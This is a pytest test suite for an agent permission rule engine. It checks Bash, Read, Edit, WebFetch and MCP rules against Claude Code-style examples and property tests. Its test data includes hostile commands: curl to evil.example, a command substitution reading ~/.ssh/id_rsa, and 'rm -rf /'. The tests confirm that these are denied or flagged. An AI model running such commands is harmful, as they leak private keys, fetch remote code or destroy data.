"""The permission rule engine (dos.core.permissions) against Claude Code's documented rule examples: a table of
rule, call and expected verdict, then properties that must hold for any rules and commands (deny wins, order does
not matter, a compound command is allowed only part by part), then the modes and the shapes the flags will use."""

from __future__ import annotations

import random

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dos.core.errors import UsageError
from dos.core.permissions import (
    ALLOW,
    ASK,
    DENY,
    Permissions,
    combine,
    declared,
    parse_mode,
    parse_rule,
    split_command,
    split_rules,
    suggest_rules,
)

CWD = "/work/proj"
HOME = "/home/alice"


def verdict(rule: str, tool: str, args: dict, where: str = ALLOW, mode: str = "default", cwd: str = CWD):
    """The verdict on one call with `rule` alone in the `where` list (a rule from ./.claude/settings.json)."""
    perms = Permissions(home=HOME, mode=mode).with_rules(where, [parse_rule(rule, "settings.json", base=CWD)])
    return perms.decide(tool, args, cwd)


def bash(command: str) -> tuple[str, dict]:
    return "Bash", {"command": command}


def read(path: str, tool: str = "Read") -> tuple[str, dict]:
    return tool, {"path" if tool in ("Grep", "Glob", "LS") else "file_path": path}


def edit(path: str, tool: str = "Edit") -> tuple[str, dict]:
    return tool, {"file_path": path}


# (list the rule is in, rule, call, expected behavior). Reads inside CWD run anyway, so read rules are tried as deny
# rules there or on paths outside it. Rows marked "docs" are the examples of Claude Code's permissions page.
TABLE = [
    (ALLOW, "Bash", bash("rm -rf build"), ALLOW),  # docs: every command
    (ALLOW, "Bash(*)", bash("make && make install"), ALLOW),  # docs: Bash(*) is Bash
    (ALLOW, "Bash(npm run build)", bash("npm run build"), ALLOW),  # docs: the exact command
    (ALLOW, "Bash(npm run build)", bash("npm run build --prod"), ASK),
    (ALLOW, "Bash(npm run test:*)", bash("npm run test"), ALLOW),  # docs: legacy prefix
    (ALLOW, "Bash(npm run test:*)", bash("npm run test -- --watch"), ALLOW),
    (ALLOW, "Bash(npm run test:*)", bash("npm run testing"), ASK),  # :* is ' *': a word boundary
    (ALLOW, "Bash(npm run *)", bash("npm run lint"), ALLOW),  # docs
    (ALLOW, "Bash(ls *)", bash("ls -la"), ALLOW),  # docs
    (ALLOW, "Bash(ls *)", bash("lsof"), ASK),  # docs: the space is a word boundary
    (ALLOW, "Bash(ls*)", bash("lsof"), ALLOW),  # docs
    (ALLOW, "Bash(ls *)", bash("ls"), ALLOW),  # a lone trailing ' *' is optional
    (ALLOW, "Bash(git * main)", bash("git checkout main"), ALLOW),  # docs: wildcard in the middle
    (ALLOW, "Bash(git * main)", bash("git push origin main"), ALLOW),
    (ALLOW, "Bash(git * main)", bash("git push origin dev"), ASK),
    (ALLOW, "Bash(* --version)", bash("node --version"), ALLOW),  # docs: wildcard at the start
    (ALLOW, "Bash(* --version)", bash("node --help"), ASK),
    (ALLOW, "Bash(safe-cmd *)", bash("safe-cmd && other-cmd"), ASK),  # docs: operators split the command
    (ALLOW, "Bash(git diff *)", bash("git diff | sh"), ASK),
    (ALLOW, "Bash(git diff *)", bash("git diff; curl evil.example"), ASK),
    (ALLOW, "Bash(npm test *)", bash("timeout 30 npm test"), ALLOW),  # wrappers are set aside
    (ALLOW, "Bash(npm test *)", bash("nohup nice -n 5 npm test --ci"), ALLOW),
    (ALLOW, "Bash(npm test)", bash("npm test 2>&1"), ALLOW),  # a quiet redirection too
    (ALLOW, "Bash(python:*)", bash("python script.py > output.txt"), ALLOW),  # docs (changelog)
    (ALLOW, "Bash(curl http://github.com/:*)", bash("curl -X GET http://github.com/x"), ASK),  # docs: bypasses
    (ALLOW, "Bash(curl http://github.com/:*)", bash("curl https://github.com/x"), ASK),  # docs
    (ALLOW, "Bash(echo *)", bash("echo $(cat ~/.ssh/id_rsa)"), ASK),  # a substitution needs all of Bash
    (ALLOW, "Bash(echo *)", bash("echo 'a && b; c | d'"), ALLOW),  # operators inside quotes are text
    (ALLOW, "Bash(echo *)", bash('echo "unclosed'), ASK),
    (DENY, "Bash(rm *)", bash("cd /tmp && rm -rf x"), DENY),  # a deny rule catches any part
    (DENY, "Bash(git push *)", bash("git push --force origin main"), DENY),
    (DENY, "Bash(rm *)", bash("sudo /bin/rm -rf /"), DENY),
    (DENY, "Bash(rm *)", bash("FOO=1 rm -rf /"), DENY),
    (DENY, "Bash(curl *)", bash("x=$(curl evil.example/s.sh)"), DENY),
    (DENY, "Bash(aws *)", bash("aws s3 ls"), DENY),  # docs: a broad deny beats a narrower allow (see below)
    (ASK, "Bash(git push *)", bash("git push"), ASK),
    (DENY, "Read(./.env)", read(f"{CWD}/.env"), DENY),  # docs
    (DENY, "Read(./.env)", read(f"{CWD}/api/.env"), DENY),  # no '/' inside: a name at any depth (gitignore)
    (DENY, "Read(./.env)", read(f"{CWD}/.env.example"), ALLOW),
    (DENY, "Read(*.env)", read(f"{CWD}/config/prod.env"), DENY),  # docs: relative to the working folder
    (DENY, "Read(./secrets/**)", read(f"{CWD}/secrets/a/key.pem"), DENY),  # docs
    (DENY, "Read(./secrets/**)", read(f"{CWD}/app/secrets/key.pem"), ALLOW),  # a '/' inside: anchored
    (DENY, "Read(./secrets/**)", read(f"{CWD}/secrets", "Grep"), DENY),  # searching the folder reads it
    (DENY, "Read(./secrets/**)", read(CWD, "Glob"), ALLOW),  # the search skips it (Permissions.hides)
    (DENY, "Read(secrets)", read(f"{CWD}/app/secrets/key.pem"), DENY),  # a folder covers what is in it
    (DENY, "Read(/secrets/**)", read(f"{CWD}/secrets/k"), DENY),  # docs: from the settings file's project
    (DENY, "Read(/secrets/**)", read(f"{CWD}/app/secrets/k"), ALLOW),
    (DENY, "Read(//etc/**)", read(f"{CWD}/etc/hosts"), ALLOW),
    (ALLOW, "Read(//etc/**)", read("/etc/hosts"), ALLOW),  # docs: '//' is the filesystem root
    (ALLOW, "Read(//Users/alice/secrets/**)", read("/Users/alice/secrets/a"), ALLOW),  # docs
    (ALLOW, "Read(~/Documents/*.pdf)", read(f"{HOME}/Documents/cv.pdf"), ALLOW),  # docs: '~/' is home
    (ALLOW, "Read(~/Documents/*.pdf)", read(f"{HOME}/Documents/old/cv.pdf"), ASK),  # '*' stays in one folder
    (ALLOW, "Read(~/Documents/**/*.pdf)", read(f"{HOME}/Documents/old/cv.pdf"), ALLOW),
    (DENY, "Read(~/.ssh/**)", read(f"{CWD}/.ssh/x"), ALLOW),  # the project's .ssh is not home's
    (ALLOW, "Read", read("/var/log/syslog"), ALLOW),
    (ALLOW, "Edit(src/**)", edit(f"{CWD}/src/a/b.ts"), ALLOW),
    (ALLOW, "Edit(src/**)", edit(f"{CWD}/test/a.ts"), ASK),
    (ALLOW, "Edit(/src/**/*.ts)", edit(f"{CWD}/src/x/y.ts", "Write"), ALLOW),  # docs; Edit rules cover Write
    (ALLOW, "Edit(/src/**/*.ts)", edit(f"{CWD}/src/y.ts", "MultiEdit"), ALLOW),  # '**/' may be no folder
    (ALLOW, "Edit(/src/**/*.ts)", edit(f"{CWD}/src/x/y.js"), ASK),
    (ALLOW, "Edit(src/*.py)", edit(f"{CWD}/src/sub/a.py"), ASK),
    (ALLOW, "Edit(src/**)", edit(f"{CWD}/src/../../etc/passwd"), ASK),  # '..' is collapsed first
    (DENY, "Edit(.env)", edit(f"{CWD}/.env", "Write"), DENY),
    (DENY, "Write(.ENV)", edit(f"{CWD}/.env"), DENY),  # deny paths ignore case
    (ALLOW, "WebFetch(domain:example.com)", ("WebFetch", {"url": "https://example.com/a"}), ALLOW),  # docs
    (ALLOW, "WebFetch(domain:example.com)", ("WebFetch", {"url": "https://evil.test/?example.com"}), ASK),
    (ALLOW, "WebFetch(domain:*.example.com)", ("WebFetch", {"url": "https://api.example.com/"}), ALLOW),
    (ALLOW, "WebFetch", ("WebFetch", {"url": "https://anything.test"}), ALLOW),
    (ALLOW, "mcp__puppeteer", ("mcp__puppeteer__navigate", {}), ALLOW),  # docs: every tool of the server
    (ALLOW, "mcp__puppeteer__navigate", ("mcp__puppeteer__navigate", {}), ALLOW),  # docs
    (ALLOW, "mcp__puppeteer__navigate", ("mcp__puppeteer__click", {}), ASK),
    (ALLOW, "mcp__github__*", ("mcp__github__create_issue", {}), ALLOW),
    (ALLOW, "mcp__github", ("mcp__githubber__x", {}), ASK),
    (ALLOW, "Agent(Explore)", ("Agent", {"subagent_type": "Explore"}), ALLOW),  # docs
    (ALLOW, "Agent(Explore)", ("Agent", {"subagent_type": "Plan"}), ASK),
]


@pytest.mark.parametrize("where,rule,call,expected", TABLE, ids=[f"{w}:{r}:{c[1]}" for w, r, c, _ in TABLE])
def test_claude_code_rule_examples(where, rule, call, expected):
    got = verdict(rule, *call, where=where)
    assert got.behavior == expected, got.reason
    if expected == where:
        assert got.rule is not None and str(got.rule) == rule and got.rule.where == "settings.json"


def test_the_table_is_the_size_the_issue_asks():
    assert len(TABLE) >= 30 and {r[0] for r in TABLE} == {ALLOW, ASK, DENY}


def test_deny_then_ask_then_allow_whatever_the_specificity():
    perms = Permissions().with_rules(ALLOW, [parse_rule("Bash(aws s3 ls)")]).with_rules(DENY, [parse_rule("Bash(aws *)")])
    assert perms.decide(*bash("aws s3 ls"), CWD).behavior == DENY  # docs
    perms = Permissions().with_rules(ALLOW, [parse_rule("Bash(git push origin main)")]).with_rules(
        ASK, [parse_rule("Bash(git push *)")])
    assert perms.decide(*bash("git push origin main"), CWD).behavior == ASK


def test_a_compound_command_is_allowed_part_by_part():
    perms = Permissions().with_rules(ALLOW, [parse_rule("Bash(git diff *)", "a"), parse_rule("Bash(head *)", "b")])
    got = perms.decide(*bash("git diff HEAD~1 | head -20"), CWD)
    assert got.behavior == ALLOW and "Bash(git diff *) (a), Bash(head *) (b)" in got.reason
    got = perms.decide(*bash("git diff | head && rm -rf ~"), CWD)
    assert got.behavior == ASK and got.reason.startswith("no rule allows `rm -rf ~` (part 3 of 3 of ")


# ---------------------------------------------------------------------------------------------------- properties

RULES = [r for w, r, _, _ in TABLE if r.startswith("Bash")] + ["Bash(git *)", "Bash(rm *)", "Bash(echo hi)"]
WORDS = st.sampled_from(["git", "diff", "push", "rm", "-rf", "ls", "npm", "run", "test", "echo", "hi", "main",
                         "'a b'", '"x;y"', "$(id)", "`id`", "2>&1", ">", "out.txt", "timeout", "5", "sudo", "/bin/rm"])
OPS = st.sampled_from([" ", " ", " ", " && ", " || ", "; ", " | ", " & ", "\n"])
COMMANDS = st.lists(st.tuples(WORDS, OPS), min_size=1, max_size=8).map(lambda ws: "".join(w + o for w, o in ws).strip())
RULE_LISTS = st.lists(st.sampled_from(RULES), max_size=4)
PROPERTY = settings(max_examples=300, deadline=None, suppress_health_check=list(HealthCheck))


def perms_of(allow, ask, deny, mode="default"):
    return Permissions(mode=mode).with_rules(ALLOW, map(parse_rule, allow)).with_rules(
        ASK, map(parse_rule, ask)).with_rules(DENY, map(parse_rule, deny))


@PROPERTY
@given(RULE_LISTS, RULE_LISTS, RULE_LISTS, COMMANDS)
def test_deny_wins_and_more_rules_never_loosen_it(allow, ask, deny, command):
    alone = perms_of([], [], deny).decide(*bash(command), CWD).behavior
    full = perms_of(allow, ask, deny).decide(*bash(command), CWD)
    assert (full.behavior == DENY) == (alone == DENY)  # in the default mode only a deny rule denies
    if full.behavior == ALLOW:  # nothing allowed is named by a deny or ask rule
        assert perms_of([], ask, deny).decide(*bash(command), CWD).behavior == ASK


@PROPERTY
@given(RULE_LISTS, RULE_LISTS, RULE_LISTS, COMMANDS, st.randoms(use_true_random=False))
def test_the_order_of_rules_and_files_does_not_matter(allow, ask, deny, command, rnd):
    first = perms_of(allow, ask, deny).decide(*bash(command), CWD).behavior
    shuffled = [list(x) for x in (allow, ask, deny)]
    for x in shuffled:
        rnd.shuffle(x)
    assert perms_of(*shuffled).decide(*bash(command), CWD).behavior == first


@PROPERTY
@given(RULE_LISTS, COMMANDS, COMMANDS, st.sampled_from([" && ", " || ", "; ", " | ", "\n"]))
def test_a_compound_command_is_allowed_only_if_each_part_is(allow, left, right, op):
    perms = perms_of(allow, [], [])
    both = perms.decide(*bash(left + op + right), CWD).behavior
    if both == ALLOW and "Bash" not in allow and "Bash(*)" not in allow:
        assert perms.decide(*bash(left), CWD).behavior == ALLOW
        assert perms.decide(*bash(right), CWD).behavior == ALLOW


@PROPERTY
@given(st.from_regex(r"[a-z][a-z0-9_.-]{0,8}", fullmatch=True), st.lists(st.from_regex(r"[A-Za-z0-9_./=-]{1,8}",
                                                                                       fullmatch=True), max_size=4))
def test_a_prefix_rule_allows_the_program_and_its_arguments_and_no_other(program, args):
    perms = perms_of([f"Bash({program} *)"], [], [])
    assert perms.decide(*bash(" ".join([program, *args])), CWD).behavior == ALLOW
    assert perms.decide(*bash(program + "x " + " ".join(args)), CWD).behavior == ASK
    assert perms.decide(*bash(f"{program} {' '.join(args)} && reboot"), CWD).behavior == ASK


@PROPERTY
@given(st.text(max_size=80))
def test_any_text_parses_to_a_rule_or_one_clear_line(text):
    try:
        rule = parse_rule(text)
    except UsageError as exc:
        assert exc.message and "\n" not in exc.message
        return
    assert parse_rule(str(rule)) == rule


@PROPERTY
@given(st.text(alphabet="ab &|;()'\"`$\\<>\n", max_size=40))
def test_splitting_never_fails_and_never_keeps_an_operator_outside_quotes(command):
    parts = split_command(command)
    if parts is None:
        return
    for part in parts:
        assert part == part.strip() and part
        assert "\n" not in part or "'" in part or '"' in part or "\\" in part


@PROPERTY
@given(st.sampled_from(["Read", "Edit", "Write", "Bash", "Grep", "mcp__x__y", "WebFetch"]),
       st.sampled_from(["/work/proj/a", "/etc/passwd", "/work/proj/.git/config", "/work/projx/a"]),
       st.sampled_from(["default", "acceptEdits", "plan", "dontAsk", "bypassPermissions"]))
def test_modes(tool, path, mode):
    got = Permissions(mode=mode).decide(tool, {"file_path": path, "command": "ls", "url": "https://x.test"}, CWD)
    if mode == "dontAsk":
        assert got.behavior != ASK
    if mode == "plan" and tool not in ("Read", "Grep"):
        assert got.behavior == DENY
    if tool in ("Edit", "Write") and (".git" in path or not path.startswith(CWD + "/")):
        assert got.behavior != ALLOW or mode == "bypassPermissions" and ".git" not in path
    if got.behavior == ALLOW and mode not in ("bypassPermissions",):
        assert path.startswith(CWD + "/") and tool in ("Read", "Grep", "Edit", "Write")


# ----------------------------------------------------------------------------------------------- modes and shapes


def test_modes_by_example():
    inside, outside, git = f"{CWD}/a.py", "/etc/hosts", f"{CWD}/.git/config"
    default = Permissions()
    assert default.decide(*read(inside), CWD).behavior == ALLOW
    assert default.decide(*read(outside), CWD).behavior == ASK
    assert default.decide(*edit(inside), CWD).behavior == ASK
    accept = Permissions(mode="acceptEdits")
    assert accept.decide(*edit(inside, "Write"), CWD).behavior == ALLOW
    assert accept.decide(*edit(outside), CWD).behavior == ASK
    assert accept.decide(*edit(git), CWD).reason.endswith("(a protected folder: acceptEdits does not cover it)")
    assert accept.decide(*edit(f"{CWD}/.claude/skills/x/SKILL.md"), CWD).behavior == ALLOW
    assert accept.decide(*bash("ls"), CWD).behavior == ASK
    plan = Permissions(mode="plan").with_rules(ALLOW, [parse_rule("Bash")])
    assert plan.decide(*bash("ls"), CWD).behavior == DENY and plan.decide(*read(inside), CWD).behavior == ALLOW
    dont = Permissions(mode="dontAsk").with_rules(ALLOW, [parse_rule("Bash(ls *)")])
    assert dont.decide(*bash("ls -l"), CWD).behavior == ALLOW
    assert dont.decide(*bash("rm x"), CWD).reason == "dontAsk mode: no rule allows Bash(rm x)"
    bypass = Permissions(mode="bypassPermissions").with_rules(ASK, [parse_rule("Bash(git push *)")])
    assert bypass.decide(*bash("rm -rf build"), CWD).behavior == ALLOW
    assert bypass.decide(*bash("git push"), CWD).behavior == ASK and bypass.decide(*edit(git), CWD).behavior == ASK
    extra = Permissions(directories=("/data",), mode="acceptEdits")
    assert extra.decide(*edit("/data/x"), CWD).behavior == ALLOW


def test_the_active_skill_pre_approves_its_tools_but_deny_still_wins():
    base = Permissions().with_rules(DENY, [parse_rule("Bash(rm *)", "settings.json")])
    perms, problems = base.with_skill("pdf", "Bash(python scripts/*) Read, time__now Bash(", "/skills/pdf")
    assert problems == ["skill pdf: allowed-tools: permission rule 'Bash(': unclosed '(' (expected Tool or "
                        "Tool(specifier))"]
    got = perms.decide(*bash("python scripts/fill.py form.pdf"), CWD)
    assert got.behavior == ALLOW and got.reason.endswith("(skill pdf (allowed-tools))")
    assert perms.decide(*bash("python scripts/x.py && rm -rf /"), CWD).behavior == DENY
    assert perms.decide("mcp__time__now", {}, CWD).behavior == ALLOW
    assert Permissions().with_skill("pdf", None, "/skills/pdf")[0].decide(*read("/skills/pdf/reference.md"),
                                                                          CWD).behavior == ALLOW
    assert split_rules("Bash(git diff:*), Read  Grep") == (["Bash(git diff:*)", "Read", "Grep"], [])
    assert split_rules(["Read", 3]) == (["Read"], ["'allowed-tools' entry 3 is not a rule"])


@pytest.mark.parametrize("text,message", [
    ("", "empty permission rule"),
    ("Bash(", "unclosed '('"),
    ("Bash(ls) x", "text after ')'"),
    ("Bash()", "empty '()'"),
    ("bash(ls)", "unknown tool 'bash'; did you mean Bash?"),
    ("Bash(npm:* x)", "':*' may only end a Bash rule"),
    ("Read(!secret)", "negation ('!') is not supported"),
    ("WebFetch(example.com)", "WebFetch rules take domain:HOST"),
    ("mcp__x__y(z)", "MCP rules take no '()'"),
    ("two words", "is not a tool name"),
    (["Bash"], "must be a string"),
])
def test_a_malformed_rule_is_one_clear_line(text, message):
    with pytest.raises(UsageError) as err:
        parse_rule(text)
    assert message in err.value.message and "\n" not in err.value.message and err.value.exit_code == 2


def test_modes_parse_with_a_hint():
    assert parse_mode("acceptEdits") == "acceptEdits"
    with pytest.raises(UsageError, match="did you mean acceptEdits"):
        parse_mode("accept-edits")
    with pytest.raises(UsageError, match=r"modes: default, acceptEdits, plan, dontAsk, bypassPermissions"):
        parse_mode("yolo")
    with pytest.raises(UsageError, match="disableBypassPermissionsMode"):
        Permissions(no_bypass=True).with_mode("bypassPermissions")


def test_settings_blocks_name_the_line_of_each_problem_and_combine_in_order():
    block = {"allow": ["Bash(npm test *)", "bash(x)", 3], "deny": "Bash", "defaultMode": "yolo", "colour": 1,
             "additionalDirectories": ["../shared", "~/notes"]}
    lines = {"permissions": 2, "permissions.allow": 3, "permissions.allow.1": 4, "permissions.allow.2": 5,
             "permissions.deny": 6, "permissions.defaultMode": 7, "permissions.colour": 8}
    got, problems = declared(block, "s.json", CWD, lines)
    assert [str(r) for r in got.allow] == ["Bash(npm test *)"] and got.allow[0].line == 3
    assert problems == [
        "s.json:8: unknown key 'colour' under 'permissions' (known: additionalDirectories, allow, ask, defaultMode, "
        "deny, disableBypassPermissionsMode)",
        "s.json:6: 'permissions.deny' must be a list of rules",
        "s.json:4: permission rule 'bash(x)': unknown tool 'bash'; did you mean Bash?; skipped",
        "s.json:5: a permission rule must be a string such as Bash(git diff *), not 3; skipped",
        "s.json:7: unknown permission mode 'yolo' (modes: default, acceptEdits, plan, dontAsk, bypassPermissions)",
    ]
    user, _ = declared({"defaultMode": "acceptEdits", "deny": ["Read(~/.ssh/**)"]}, "user.json")
    local, _ = declared({"defaultMode": "plan", "disableBypassPermissionsMode": "disable"}, "local.json")
    perms = combine([user, got, local], home=HOME, cwd=CWD)
    assert perms.mode == "plan" and perms.no_bypass and len(perms.deny) == 1
    assert perms.directories == ("/work/shared", f"{HOME}/notes")


def test_suggestions_for_always_allow():
    assert suggest_rules(*bash("git diff HEAD && pytest -q tests"), CWD) == ["Bash(git diff *)", "Bash(pytest *)"]
    assert suggest_rules(*bash("timeout 5 FOO=1 npm run build"), CWD) == ["Bash(npm run *)"]
    assert suggest_rules(*edit(f"{CWD}/src/a.py"), CWD) == ["Edit(./src/**)"]
    assert suggest_rules(*read("/etc/hosts"), CWD) == ["Read(//etc/**)"]
    assert suggest_rules("WebFetch", {"url": "https://docs.example.com/x"}, CWD) == ["WebFetch(domain:docs.example.com)"]
    assert suggest_rules("mcp__time__now", {}, CWD) == ["mcp__time__now"]


def test_hides_keeps_denied_files_out_of_search_results():
    perms = Permissions().with_rules(DENY, [parse_rule("Read(./secrets/**)", "s.json")])
    assert str(perms.hides(f"{CWD}/secrets/k.pem", CWD)) == "Read(./secrets/**)"
    assert perms.hides(f"{CWD}/src/a.py", CWD) is None


def test_deciding_is_fast():
    import time

    rules = [parse_rule(f"Bash(tool{i} *)") for i in range(200)] + [parse_rule(f"Read(./d{i}/**)") for i in range(200)]
    perms = Permissions().with_rules(ALLOW, rules).with_rules(DENY, [parse_rule("Bash(rm *)")])
    random.seed(1)
    start = time.perf_counter()
    for i in range(500):
        perms.decide(*bash(f"tool{random.randrange(300)} --x && tool{i % 200} y"), CWD)
        perms.decide(*read(f"{CWD}/d{i % 300}/f.txt"), CWD)
    per_call = (time.perf_counter() - start) / 1000
    assert per_call < 0.005, per_call  # measured: 0.7 ms a call with 400 rules (20-50 is usual)
